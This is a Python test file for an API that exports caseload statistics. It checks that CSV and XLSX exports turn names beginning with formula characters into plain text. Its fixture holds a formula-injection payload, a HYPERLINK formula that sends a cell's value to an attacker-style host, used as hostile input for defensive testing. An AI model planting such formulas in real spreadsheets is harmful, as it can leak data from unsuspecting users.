"""Finding: exports carried live formulas — a studio named ``=HYPERLINK(...)`` or a mediator
named ``=1+1`` came out as a formula in the auditor's XLSX and raw in the CSV.

Contract v1.1: a text cell that would start with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is written as text prefixed with ``'``; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook

from api.pages.common import COOKIE
from api.spreadsheet import csv_cell, xlsx_cell
from tests.api.conftest import World, case_body
from tests.security.hygiene_support import case_in_mediation, world_on
from tests.support.factories import SteppingClock

STUDIO = '=HYPERLINK("http://evil.example/x?"&A1,"详情")'
MEDIATOR = "=1+1"
PERIOD = {"from": "2026-01-01", "to": "2026-06-30", "region": "420100"}


@pytest.fixture
def world(database_url: str, clock: SteppingClock) -> Iterator[World]:
    with world_on(database_url, clock) as w:
        yield w


@pytest.fixture
def hostile(world: World) -> World:
    """A studio and a mediator with formula names, and a case they mediate."""
    r = world.post(
        "/api/v1/studios",
        {
            "name": STUDIO,
            "region_code": "420100",
            "kind": "docking_studio",
            "established_on": "2025-06-01",
        },
        who="admin",
    )
    assert r.status_code == 201, r.text
    studio_id = r.json()["studio_id"]
    r = world.post(
        f"/api/v1/studios/{studio_id}/mediators",
        {"name": MEDIATOR, "qualification": "lawyer", "appointed_on": "2025-06-01"},
        who="admin",
    )
    assert r.status_code == 201, r.text
    case_in_mediation(world, case_body(7), studio_id, r.json()["mediator_id"])
    return world


def _csv(world: World, group_by: str) -> list[dict[str, str]]:
    r = world.get("/api/v1/stats/caseload.csv", params={**PERIOD, "group_by": group_by})
    assert r.status_code == 200, r.text
    return list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))


def _xlsx(content: bytes) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(content))["收结案统计"]
    return [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]


def test_csv_names_are_text_not_formulas(hostile: World) -> None:
    labels = [row["label"] for row in _csv(hostile, "studio")]
    assert "'" + STUDIO in labels and STUDIO not in labels
    rows = _csv(hostile, "mediator")
    labels = [row["label"] for row in rows]
    assert "'" + MEDIATOR in labels and MEDIATOR not in labels
    ours = next(row for row in rows if row["label"] == "'" + MEDIATOR)
    assert ours["pending"] == "1" and ours["amount_claimed"] == "0.00"  # numbers untouched


@pytest.mark.parametrize("who", ["api", "page"])
def test_xlsx_cells_are_text_not_formulas(hostile: World, who: str) -> None:
    for group_by, name in (("studio", STUDIO), ("mediator", MEDIATOR)):
        params = {**PERIOD, "group_by": group_by}
        if who == "api":
            r = hostile.get("/api/v1/stats/caseload.xlsx", who="auditor", params=params)
        else:  # the dashboard's download button
            hostile.client.cookies.set(COOKIE, hostile.tokens["auditor"])
            r = hostile.client.get("/dashboard/caseload.xlsx", params=params)
            hostile.client.cookies.clear()
        assert r.status_code == 200, r.text
        workbook = load_workbook(io.BytesIO(r.content))
        sheet = workbook["收结案统计"]
        cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
        assert all(c.data_type != "f" for c in cells)  # no formula anywhere
        labels = [c.value for c in cells if c.column == 2]
        assert "'" + name in labels, labels
        pending = [c for c in cells if c.column == 10]  # numbers stay numbers
        assert all(c.data_type == "n" for c in pending) and 1 in [c.value for c in pending]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_guarded(start: str) -> None:
    assert csv_cell(start + "SUM(A1:A9)") == "'" + start + "SUM(A1:A9)"
    assert xlsx_cell(start + "SUM(A1:A9)") == "'" + start + "SUM(A1:A9)"


def test_numbers_stay_numbers_even_when_negative() -> None:
    for value in (Decimal("-12.50"), -3, -0.25):
        assert csv_cell(value) == value
        assert xlsx_cell(value) == value
    assert csv_cell(None) == "" and xlsx_cell(None) is None
    assert csv_cell("武汉市") == "武汉市"
    assert xlsx_cell("a\x00b\x1b") == "a\ufffdb\ufffd"  # the format cannot hold controls
